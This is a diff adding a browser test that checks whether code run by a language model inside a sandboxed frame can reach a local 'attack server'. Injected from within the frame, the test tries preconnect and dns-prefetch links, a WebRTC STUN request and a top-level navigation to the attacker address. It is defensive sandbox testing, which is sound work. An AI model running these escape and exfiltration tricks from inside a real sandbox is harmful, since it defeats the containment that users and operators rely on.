@@ -1,0 +1,26 @@
+import { startAttackServer } from './support/attack-server';
+import { together } from './support/attacks';
+import { fromDocument } from './support/frame-attacks';
+import { repl, test } from './support/burrow';
+test('x', async ({ burrow, models, page }) => {
+  test.setTimeout(120000);
+  const attacker = await startAttackServer();
+  await burrow.connect('Planner', models.url, { model: 'root' });
+  await burrow.corpus('Notes', [{ name: 'n.txt', text: 'The mill was built by Jan Visser in 1897.' }]);
+  let release = () => {};
+  const gate = new Promise<void>((r) => (release = r));
+  models.script([{ when: (r) => r.lastUser === 'hold', reply: async () => { await gate; return 'x'; } }, { reply: repl('llm_query("hold")\nanswer["content"] = context[:10]\nanswer["ready"]=True') }]);
+  await burrow.ask('q', { corpus: 'Notes', strategy: 'Recursive', root: 'Planner', sub: 'Planner' });
+  await models.until(({ requests }) => requests.some((r) => r.lastUser === 'hold'));
+  const frame = page.frames()[1];
+  if (!frame) throw new Error('no frame');
+  const evalIn = async (b: string) => { try { console.log(await Promise.race([frame.evaluate(`(() => { ${b} })()`), new Promise((r) => setTimeout(r, 4000, 'timeout'))])); } catch (e) { console.log('ERR', String(e).slice(0, 300)); } await attacker.fence(page); console.log('ARRIVALS', attacker.arrivals()); };
+  await evalIn(together(fromDocument(attacker.http, attacker.ws)));
+  await evalIn(`for (const rel of ['preconnect','dns-prefetch']) document.documentElement.append(Object.assign(document.createElement('link'), {rel, href: '${attacker.http}/pre'})); return new Promise(r => setTimeout(r, 500, 'pre'))`);
+  await evalIn(`return (async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${new URL(attacker.http).port}' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 800)); return 'rtc'; })()`);
+  await evalIn(`location.href = '${attacker.http}/nav'; return new Promise(r => setTimeout(r, 1500, 'nav'))`);
+  console.log(await burrow.status.innerText());
+  console.log(await burrow.answer.innerText());
+  release();
+  console.log(page.url());
+});
